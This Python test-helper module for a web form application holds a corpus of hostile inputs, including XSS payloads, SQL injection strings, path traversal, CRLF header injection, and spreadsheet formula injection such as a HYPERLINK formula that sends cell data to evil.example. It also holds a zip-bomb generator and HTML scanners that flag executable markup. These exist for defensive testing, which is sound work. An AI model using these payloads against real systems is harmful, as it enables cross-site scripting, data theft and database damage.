"""Hostile input: a corpus of nasty values, and the detectors the tests apply to pages.

The corpus follows the OWASP XSS filter-evasion cheat sheet classics, plus what a
public form must also survive: very long text, control and bidirectional characters,
SQL fragments, path traversal, spreadsheet formulas and invalid UTF-8.
"""

import csv
import io
import re
import unicodedata
import zipfile
from dataclasses import dataclass, field
from html.parser import HTMLParser

CORPUS: list[tuple[str, str]] = [
    ("script", '<script>alert("xss")</script>'),
    ("script_mixed_case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("img_onerror", "<img src=x onerror=alert(1)>"),
    ("svg_onload", "<svg/onload=alert(1)>"),
    ("javascript_url", "javascript:alert(document.cookie)"),
    ("attribute_breakout", '"><script>alert(1)</script>'),
    ("single_quote_breakout", "'><svg onload=alert(1)>"),
    ("iframe_srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("entity_encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("numeric_entities", "&#60;img src=x onerror=alert(1)&#62;"),
    ("null_byte_split", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("tab_in_scheme", '<a href="jav&#x09;ascript:alert(1)">clic</a>'),
    ("javascript_href", '<a href="javascript:alert(1)">lien</a>'),
    ("nested_tags", "<<script>script>alert(1)<</script>/script>"),
    ("details_ontoggle", "<details open ontoggle=alert(1)>"),
    ("unclosed_img", "<img src=x onerror=alert(1)//"),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("style_url", '<p style="background:url(javascript:alert(1))">fond</p>'),
    ("comment_hidden", "<!-- x --><script>alert(1)</script>"),
    ("html_in_name", "Jean <b>Dupont</b> & fils"),
    ("template_syntax", "{{ config }} {% print 7*7 %} ${7*7}"),
    ("long_10k", ("Plus de bus le dimanche. " * 400)[:10_000]),
    ("long_100k", "é" * 100_000),
    ("control_chars", "Avis\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x85\x9f fin"),
    ("crlf_injection", "ligne 1\r\nSet-Cookie: x=1\rligne 3"),
    ("rtl_override", "Facture \u202egpj.exe\u202c et \u2066isolat\u2069"),
    ("zero_width", "java\u200bscript\u200d:alert(1) \ufeffcaché"),
    ("sql_or", "' OR 1=1 --"),
    ("sql_drop", "'; DROP TABLE contributions; --"),
    ("sql_union", '" UNION SELECT password_hash FROM users --'),
    ("path_traversal", "../../etc/passwd"),
    ("percent_encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("formula_hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'),
    ("formula_cmd", "+cmd|' /C calc'!A0"),
    ("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula_minus", "-2+3"),
    ("emoji_astral", "Très bien 😀 𝕏 ✓"),
]
# The values every other field gets (the full corpus goes to the participants' fields).
NASTIEST = (
    "attribute_breakout",
    "img_onerror",
    "tab_in_scheme",
    "control_chars",
    "formula_hyperlink",
)
# Raw bytes for a form body: invalid UTF-8 (lone continuation, overlong, truncated).
INVALID_UTF8 = (b"\xff\xfe", b"\xc0\xaf", b"\xe2\x82", b"<scr\xffipt>")
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# C0/C1 controls except tab and newline; bidirectional overrides and isolates.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# What the application itself may load: its scripts and pictures.
OWN_SCRIPT = re.compile(r"^/static/js/[\w.-]+\.js$")
OWN_IMAGE = re.compile(r"^(/static/|/logo$|/rencontres/\d+/qr\.svg$)")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
# Inline <svg> is the application's own charts: what could run in one is caught below
# (handlers, script, script URLs, animations that set one); raw input is caught apart.
FOREIGN_TAGS = {"iframe", "frame", "object", "embed", "math", "base", "applet", "foreignobject"}
ANIMATIONS = {"set", "animate", "animatemotion", "animatetransform"}
_INVISIBLE = re.compile(r"[\x00-\x20\u200b-\u200d\ufeff]")


def corpus(names=None) -> list[tuple[str, str]]:
    """The corpus, or only the values named."""
    return [(n, v) for n, v in CORPUS if names is None or n in names]


def nfc_expanding(length: int) -> str:
    """``length`` characters that become twice as many once NFC-normalised."""
    text = "\u0958" * length  # DEVANAGARI LETTER QA, a composition exclusion
    assert len(unicodedata.normalize("NFC", text)) == 2 * length
    return text


def has_control(text: str) -> bool:
    return bool(CONTROL.search(text or ""))


def _dangerous_url(value: str) -> bool:
    compact = _INVISIBLE.sub("", value or "").lower()
    return compact.startswith(("javascript:", "vbscript:", "data:text/html", "livescript:"))


class _MarkupScanner(HTMLParser):
    """Collects what could run in a browser: foreign scripts, handlers, script URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs, self.get_starttag_text() or "")

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs, self.get_starttag_text() or "")

    def _check(self, tag, attrs, text):
        shown = text[:120]
        problem = self._tag_problem(tag, dict(attrs))
        if problem:
            self.problems.append(f"{problem} : {shown}")
        for name, value in attrs:
            problem = self._attribute_problem(tag, name, value or "")
            if problem:
                self.problems.append(f"{problem} : {shown}")

    def _tag_problem(self, tag, attributes) -> str | None:
        if tag == "script":
            self._in_script = True
            return None if OWN_SCRIPT.match(attributes.get("src") or "") else "script étranger"
        if tag in FOREIGN_TAGS:
            return f"balise <{tag}>"
        if tag == "img" and not OWN_IMAGE.match(attributes.get("src") or ""):
            return "image étrangère"
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            return "redirection meta"
        return None

    @staticmethod
    def _attribute_problem(tag, name, value) -> str | None:
        if name.startswith("on"):
            return f"gestionnaire {name}="
        if name in URL_ATTRIBUTES and _dangerous_url(value):
            return f"URL script dans {name}="
        if tag in ANIMATIONS and name in ("to", "from", "values") and "script" in value.lower():
            return "animation SVG active"
        if name == "srcdoc":
            return "srcdoc="
        if name == "style" and re.search(r"javascript:|expression\(", value, re.IGNORECASE):
            return "style actif"
        return None

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append(f"script en ligne : {data.strip()[:80]}")


def executable_markup(html: str, values=()) -> list[str]:
    """What, in ``html``, could run or inject markup; ``values`` that appear unescaped too.

    A value containing ``<`` must only ever appear escaped (``&lt;``) or cleaned.
    """
    scanner = _MarkupScanner()
    scanner.feed(html)
    scanner.close()
    problems = list(scanner.problems)
    for value in values:
        if "<" in value and len(value) < 5000 and value in html:
            problems.append(f"valeur non échappée : {value[:80]!r}")
    return problems


def tags_in_text(text: str) -> bool:
    """Plain text (JSON, CSV) that still carries a tag."""
    return bool(re.search(r"<[a-zA-Z!?/]", text or ""))


def formula_cells(csv_text: str, delimiter: str = ";") -> list[str]:
    """Cells a spreadsheet would evaluate as formulas."""
    reader = csv.reader(io.StringIO(csv_text.lstrip("\ufeff")), delimiter=delimiter)
    return [cell for row in reader for cell in row if cell.startswith(FORMULA_PREFIXES)]


def zip_bomb(uncompressed: int = 20 * 1024 * 1024) -> bytes:
    """An .xlsx-looking zip whose one member inflates from a few KB to ``uncompressed``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * uncompressed)
    return buffer.getvalue()


# --- Forms: what a page asks for --------------------------------------------------------

TEXT_TYPES = {"text", "email", "password", "search", "tel", "url", "number", "color", "date"}


@dataclass
class Control:
    tag: str
    type: str
    name: str
    value: str = ""
    checked: bool = False
    options: list[str] = field(default_factory=list)
    selected: list[str] = field(default_factory=list)
    maxlength: int | None = None

    @property
    def is_text(self) -> bool:
        return self.tag == "textarea" or (self.tag == "input" and self.type in TEXT_TYPES)


@dataclass
class Form:
    action: str
    method: str
    enctype: str
    controls: list[Control] = field(default_factory=list)

    def text_fields(self) -> list[str]:
        return list(dict.fromkeys(c.name for c in self.controls if c.is_text))

    def defaults(self) -> dict[str, list[str]]:
        """What a browser would send as is: hidden values, checked boxes, selections."""
        data: dict[str, list[str]] = {}
        for c in self.controls:
            if c.tag == "select":
                chosen = c.selected or c.options[:1]
                if chosen:
                    data.setdefault(c.name, []).extend(chosen)
            elif c.type in ("checkbox", "radio"):
                if c.checked:
                    data.setdefault(c.name, []).append(c.value or "on")
            elif c.type in ("submit", "button", "file", "reset", "image"):
                continue
            else:
                data.setdefault(c.name, []).append(c.value)
        return data


class _FormParser(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self._select: Control | None = None
        self._option: str | None = None
        self._option_selected = False
        self._textarea: Control | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: (v if v is not None else "") for k, v in attrs}
        if tag == "form":
            self.forms.append(
                Form(
                    action=a.get("action", ""),
                    method=a.get("method", "get").lower(),
                    enctype=a.get("enctype", ""),
                )
            )
            return
        if not self.forms or "name" not in a:
            if tag == "option" and self._select is not None:
                self._start_option(a)
            return
        form = self.forms[-1]
        maxlength = int(a["maxlength"]) if a.get("maxlength", "").isdigit() else None
        if tag == "input":
            form.controls.append(
                Control(
                    "input",
                    a.get("type", "text").lower(),
                    a["name"],
                    a.get("value", ""),
                    checked="checked" in a,
                    maxlength=maxlength,
                )
            )
        elif tag == "button":
            form.controls.append(Control("button", "submit", a["name"], a.get("value", "")))
        elif tag == "textarea":
            self._textarea = Control("textarea", "textarea", a["name"], maxlength=maxlength)
            form.controls.append(self._textarea)
        elif tag == "select":
            self._select = Control("select", "select", a["name"])
            form.controls.append(self._select)

    def _start_option(self, a):
        self._option = a.get("value")
        self._option_selected = "selected" in a

    def handle_endtag(self, tag):
        if tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None
        elif tag == "option" and self._select is not None and self._option is not None:
            self._select.options.append(self._option)
            if self._option_selected:
                self._select.selected.append(self._option)
            self._option = None

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea.value += data


def parse_forms(html: str) -> list[Form]:
    """Every form of a page, with its controls (fields without a name are ignored)."""
    parser = _FormParser()
    parser.feed(html)
    parser.close()
    return parser.forms
